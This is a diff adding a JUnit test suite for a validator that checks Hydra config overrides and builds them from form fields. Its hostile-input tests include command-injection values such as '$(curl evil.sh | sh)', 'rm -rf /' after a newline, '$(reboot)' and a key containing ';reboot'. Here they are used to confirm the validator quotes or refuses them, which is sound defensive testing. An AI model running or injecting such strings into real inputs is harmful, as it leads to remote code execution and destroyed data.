@@ -1,0 +1,347 @@
+package io.missioncontrol.project.hydra;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.file.Path;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class HydraOverridesTest {
+
+    private final HydraConfig vision = Projects.vision();
+
+    private List<String> messages(String... overrides) {
+        return HydraOverrides.validateText(vision, List.of(overrides)).stream().map(OverrideProblem::message).toList();
+    }
+
+    private String message(String override) {
+        List<String> messages = messages(override);
+        assertThat(messages).hasSize(1);
+        return messages.get(0);
+    }
+
+    @Nested
+    class Groups {
+
+        @ParameterizedTest
+        @ValueSource(strings = {"model=mlp", "model=resnet", "model/optimizer=sgd", "dataset=imagenet", "trainer=fast",
+                "experiment=big_resnet", "model=[cnn,mlp]", "model=null", "~dataset", "~model=cnn", "~experiment",
+                "model@backbone=resnet"})
+        void validGroupOverridesHaveNoProblem(String override) {
+            assertThat(messages(override)).isEmpty();
+        }
+
+        @Test
+        void aMisspelledGroupGetsASuggestion() {
+            assertThat(message("modle=mlp")).isEqualTo("unknown group 'modle' — did you mean 'model'?");
+            assertThat(message("model/optimiser=adam")).isEqualTo("unknown group 'model/optimiser' — did you mean 'model/optimizer'?");
+        }
+
+        @Test
+        void anUnknownGroupPathWithoutNearMissSaysSo() {
+            assertThat(message("callbacks/early=x")).isEqualTo("unknown group 'callbacks/early'");
+        }
+
+        @Test
+        void anOptionNotInTheGroupListsTheOptions(@TempDir Path project) {
+            Projects.write(project,
+                    "configs/train.yaml", "defaults:\n  - model: cnn\n",
+                    "configs/model/cnn.yaml", "name: cnn\n",
+                    "configs/model/mlp.yaml", "name: mlp\n");
+            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();
+
+            List<OverrideProblem> problems = HydraOverrides.validateText(config, List.of("model=resnet"));
+
+            assertThat(problems).containsExactly(new OverrideProblem("model=resnet", "option 'resnet' not in model: cnn, mlp"));
+        }
+
+        @Test
+        void aNearMissOptionGetsASuggestion() {
+            assertThat(message("model/optimizer=adamw"))
+                    .isEqualTo("option 'adamw' not in model/optimizer: adam, sgd — did you mean 'adam'?");
+        }
+
+        @Test
+        void everyOptionOfAListIsChecked() {
+            assertThat(message("model=[cnn,vit]")).startsWith("option 'vit' not in model: cnn, mlp, resnet");
+        }
+
+        @Test
+        void aGroupValueKeyWrittenWithDotsPointsToTheGroupSyntax() {
+            assertThat(message("model.optimizer=sgd")).isEqualTo("model.optimizer is a config group: write model/optimizer=sgd");
+        }
+
+        @Test
+        void appendingAGroupAlreadyListedSaysHowToChangeIt() {
+            assertThat(message("+model=mlp")).isEqualTo("group 'model' is already in the defaults list: write model=mlp to change it");
+        }
+
+        @Test
+        void settingAGroupNotListedSaysHowToAddIt(@TempDir Path project) {
+            Projects.write(project, "configs/train.yaml", "seed: 1\n", "configs/experiment/big.yaml", "seed: 7\n");
+            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();
+
+            assertThat(HydraOverrides.validateText(config, List.of("experiment=big"))).extracting(OverrideProblem::message)
+                    .containsExactly("group 'experiment' is not in the defaults list: write +experiment=big to add it");
+            assertThat(HydraOverrides.validateText(config, List.of("+experiment=big"))).isEmpty();
+            assertThat(HydraOverrides.validateText(config, List.of("~experiment"))).extracting(OverrideProblem::message)
+                    .containsExactly("cannot delete group 'experiment': it is not in the defaults list");
+        }
+
+        @Test
+        void forceAddIsNotForGroups() {
+            assertThat(message("++model=mlp")).isEqualTo("'++' is not supported for config groups: write model=mlp");
+        }
+
+        @Test
+        void deletingAGroupWithAnotherOptionNamesTheCurrentOne() {
+            assertThat(message("~model=mlp")).isEqualTo("cannot delete model=mlp: the current option is cnn");
+        }
+
+        @Test
+        void aDictionaryIsNoOption() {
+            assertThat(message("model={a: 1}")).isEqualTo("group 'model' takes an option name, not a dictionary");
+        }
+
+        @Test
+        void hydrasOwnGroupsAndKeysAreLeftToHydra() {
+            assertThat(messages("hydra/launcher=submitit_slurm", "hydra.run.dir=/tmp/run", "hydra.job.chdir=false")).isEmpty();
+        }
+    }
+
+    @Nested
+    class Values {
+
+        @ParameterizedTest
+        @ValueSource(strings = {"model.lr=0.01", "model.lr=1", "model.lr=1e-4", "model.lr=-inf", "dataset.batch_size=64",
+                "dataset.batch_size=0.5", "dataset.batch_size=${oc.env:BS}", "model.lr=null", "debug=true", "debug=False",
+                "run_name=any text at all", "trainer.precision=32", "trainer.gradient_clip_val=0.5", "tags=[a,b]",
+                "model.channels=[16,32]", "model.channels.0=8", "+trainer.seed=7", "++trainer.seed=7", "++seed=1",
+                "~seed", "~seed=42", "~model.dropout", "notes='a note'", "model.optimizer.betas=[0.9,0.99]"})
+        void validValueOverridesHaveNoProblem(String override) {
+            assertThat(messages(override)).isEmpty();
+        }
+
+        @Test
+        void aNumberKeyRefusesText() {
+            assertThat(message("model.lr=abc")).isEqualTo("model.lr expects a number, got 'abc'");
+            assertThat(message("dataset.batch_size=lots")).isEqualTo("dataset.batch_size expects a number, got 'lots'");
+        }
+
+        @Test
+        void aBooleanKeyRefusesOtherWords() {
+            assertThat(message("debug=maybe")).isEqualTo("debug expects true or false, got 'maybe'");
+            assertThat(message("debug=yes")).isEqualTo("debug expects true or false, got 'yes'");
+        }
+
+        @Test
+        void aMisspelledKeyGetsASuggestion() {
+            assertThat(message("model.lrr=0.1")).isEqualTo("unknown key 'model.lrr' — did you mean 'model.lr'?");
+            assertThat(message("trainer.max_epoch=3")).isEqualTo("unknown key 'trainer.max_epoch' — did you mean 'trainer.max_epochs'?");
+            assertThat(message("sed=1")).isEqualTo("unknown key 'sed' — did you mean 'seed'?");
+        }
+
+        @Test
+        void anUnknownKeySaysHowToAddIt() {
+            assertThat(message("trainer.accumulate_grad_batches=4"))
+                    .isEqualTo("unknown key 'trainer.accumulate_grad_batches' (to add it write +trainer.accumulate_grad_batches=…)");
+            assertThat(message("wandb=on")).isEqualTo("unknown group or key 'wandb' (to add it write +wandb=…)");
+        }
+
+        @Test
+        void appendingAnExistingKeyIsRefused() {
+            assertThat(message("+seed=1")).isEqualTo("'seed' already exists: write seed=… to change it");
+        }
+
+        @Test
+        void deletingAMissingKeyIsRefused() {
+            assertThat(message("~trainer.seed")).isEqualTo("cannot delete 'trainer.seed': no such key");
+            assertThat(message("~sed")).isEqualTo("cannot delete 'sed': no such key — did you mean 'seed'?");
+        }
+
+        @Test
+        void deletingWithAnotherValueNamesTheCurrentOne() {
+            assertThat(message("~seed=7")).isEqualTo("cannot delete seed=7: its value is 42");
+        }
+
+        @Test
+        void aSweepIsRefusedWithTheTwoWaysOut() {
+            assertThat(message("seed=1,2,3"))
+                    .isEqualTo("'1,2,3' would start several runs (a sweep); for one string value write seed='1,2,3', for a list seed=[1,2,3]");
+            assertThat(message("seed=choice(1,2)")).startsWith("'choice(1,2)' would start several runs");
+            assertThat(message("model.lr=range(0,1,0.1)")).startsWith("'range(0,1,0.1)' would start several runs");
+        }
+
+        @Test
+        void aBrokenExpressionIsRefused() {
+            assertThat(message("tags=[a,b")).isEqualTo("value of tags: unclosed '['");
+            assertThat(message("tags=[a;b]")).isEqualTo("value of tags: character ';' must be inside quotes");
+            assertThat(message("tags=[a,'b]")).isEqualTo("value of tags: unclosed quote '");
+            assertThat(message("tags={a: [1}")).isEqualTo("value of tags: unbalanced '}'");
+        }
+
+        @Test
+        void aKeySetTwiceIsReportedOnTheSecond() {
+            assertThat(HydraOverrides.validateText(vision, List.of("seed=1", "seed=2")))
+                    .containsExactly(new OverrideProblem("seed=2", "'seed' is already set by 'seed=1'"));
+        }
+    }
+
+    @Nested
+    class RawText {
+
+        @Test
+        void parseErrorsBecomeProblemsForTheTextAsTyped() {
+            assertThat(HydraOverrides.validateText(vision, List.of("model", "mo del=1", "=3")))
+                    .containsExactly(
+                            new OverrideProblem("model", "'model' has no value: write model=value"),
+                            new OverrideProblem("mo del=1", "key 'mo del' may only hold letters, digits and _ . / @ -"),
+                            new OverrideProblem("=3", "empty key in '=3'"));
+        }
+
+        @Test
+        void blankLinesAreSkipped() {
+            assertThat(HydraOverrides.validateText(vision, List.of("", "   ", "seed=3"))).isEmpty();
+        }
+
+        @Test
+        void hostileTextIsReportedNotThrown() {
+            assertThat(HydraOverrides.validateText(vision, List.of("seed=1\nrm -rf /", "run_name=$(id)\0")))
+                    .containsExactly(
+                            new OverrideProblem("seed=1\nrm -rf /", "override contains a newline"),
+                            new OverrideProblem("run_name=$(id)\0", "override contains a NUL character"));
+        }
+
+        @Test
+        void validatingBuiltOverridesReportsTheirArgument() {
+            assertThat(HydraOverrides.validate(vision, HydraOverride.set("model.lr", "fast")))
+                    .containsExactly(new OverrideProblem("model.lr=fast", "model.lr expects a number, got 'fast'"));
+        }
+    }
+
+    @Nested
+    class BuildingFromAForm {
+
+        private static Map<String, String> fields(String... keysAndValues) {
+            Map<String, String> map = new LinkedHashMap<>();
+            for (int i = 0; i < keysAndValues.length; i += 2) {
+                map.put(keysAndValues[i], keysAndValues[i + 1]);
+            }
+            return map;
+        }
+
+        @Test
+        void changedFieldsBecomeOverridesInOrderAndExtrasFollow() {
+            OverrideSet set = HydraOverrides.build(vision, fields(
+                    "model", "mlp",
+                    "model.lr", "0.01",
+                    "run_name", "my first run",
+                    "experiment", "quick"),
+                    List.of("+trainer.seed=7", "  "));
+
+            assertThat(set.problems()).isEmpty();
+            assertThat(set.valid()).isTrue();
+            assertThat(set.arguments()).containsExactly(
+                    "model=mlp", "model.lr=0.01", "run_name='my first run'", "experiment=quick", "+trainer.seed=7");
+        }
+
+        @Test
+        void fieldsLeftAtTheirDefaultGiveNoOverride() {
+            OverrideSet set = HydraOverrides.build(vision, fields(
+                    "model", "cnn",
+                    "model.lr", "1e-3",
+                    "seed", "42",
+                    "debug", "False",
+                    "trainer.gradient_clip_val", "null",
+                    "model.channels", "[32, 64]",
+                    "experiment", "",
+                    "notes", "???",
+                    "dataset.root", "${oc.env:DATA_DIR,/data}/cifar10"), List.of());
+
+            assertThat(set.overrides()).isEmpty();
+            assertThat(set.valid()).isTrue();
+        }
+
+        @Test
+        void listAndMapFieldsTakeHydraSyntax() {
+            OverrideSet set = HydraOverrides.build(vision, fields("model.channels", "[16, 32, 64]", "tags", "[a, 'b c']"), List.of());
+
+            assertThat(set.arguments()).containsExactly("model.channels=[16, 32, 64]", "tags=[a, 'b c']");
+            assertThat(set.valid()).isTrue();
+        }
+
+        @Test
+        void stringFieldsAreLiteralsEvenWithCommasOrBrackets() {
+            OverrideSet set = HydraOverrides.build(vision, fields("run_name", "a,b [test]"), List.of());
+
+            assertThat(set.arguments()).containsExactly("run_name='a,b [test]'");
+            assertThat(set.valid()).isTrue();
+        }
+
+        @Test
+        void clearingAGroupThatHasADefaultRemovesIt() {
+            assertThat(HydraOverrides.build(vision, fields("dataset", ""), List.of()).arguments()).containsExactly("dataset=null");
+        }
+
+        @Test
+        void aGroupNotInTheDefaultsListIsAppended(@TempDir Path project) {
+            Projects.write(project, "configs/train.yaml", "seed: 1\n", "configs/experiment/big.yaml", "seed: 7\n");
+            HydraConfig config = HydraConfigLoader.load(project).orElseThrow();
+
+            OverrideSet set = HydraOverrides.build(config, fields("experiment", "big"), List.of());
+
+            assertThat(set.arguments()).containsExactly("+experiment=big");
+            assertThat(set.valid()).isTrue();
+        }
+
+        @Test
+        void problemsNameTheFieldAsBuilt() {
+            OverrideSet set = HydraOverrides.build(vision, fields("model.lr", "abc", "modle", "mlp", "model", "vit"), List.of("debug=perhaps"));
+
+            assertThat(set.problems()).containsExactly(
+                    new OverrideProblem("model.lr=abc", "model.lr expects a number, got 'abc'"),
+                    new OverrideProblem("modle=mlp", "unknown group 'modle' — did you mean 'model'?"),
+                    new OverrideProblem("model=vit", "option 'vit' not in model: cnn, mlp, resnet"),
+                    new OverrideProblem("debug=perhaps", "debug expects true or false, got 'perhaps'"));
+            assertThat(set.valid()).isFalse();
+        }
+
+        @Test
+        void aFieldRepeatedInTheExtrasIsReported() {
+            OverrideSet set = HydraOverrides.build(vision, fields("seed", "1"), List.of("seed=2"));
+
+            assertThat(set.problems()).containsExactly(new OverrideProblem("seed=2", "'seed' is already set by 'seed=1'"));
+        }
+
+        @Test
+        void hostileFieldValuesAreQuotedOrRefused() {
+            OverrideSet set = HydraOverrides.build(vision, fields(
+                    "run_name", "$(curl evil.sh | sh); `id` 'x' \"y\" \\z",
+                    "notes", "line one\nline two",
+                    "dataset.root", "/data\0/x"), List.of("+evil=$(reboot)", "bad=1\n; rm -rf /"));
+
+            assertThat(set.arguments()).containsExactly(
+                    "run_name='$(curl evil.sh | sh); `id` \\'x\\' \"y\" \\z'",
+                    "+evil='$(reboot)'");
+            assertThat(set.problems()).containsExactly(
+                    new OverrideProblem("notes=line one\nline two", "value contains a newline"),
+                    new OverrideProblem("dataset.root=/data\0/x", "value contains a NUL character"),
+                    new OverrideProblem("bad=1\n; rm -rf /", "override contains a newline"));
+        }
+
+        @Test
+        void hostileKeysAreRefused() {
+            OverrideSet set = HydraOverrides.build(vision, fields("seed;reboot", "1", "", "2"), List.of());
+
+            assertThat(set.overrides()).isEmpty();
+            assertThat(set.problems()).extracting(OverrideProblem::message).containsExactly(
+                    "key 'seed;reboot' may only hold letters, digits and _ . / @ -", "empty key");
+        }
+    }
+}
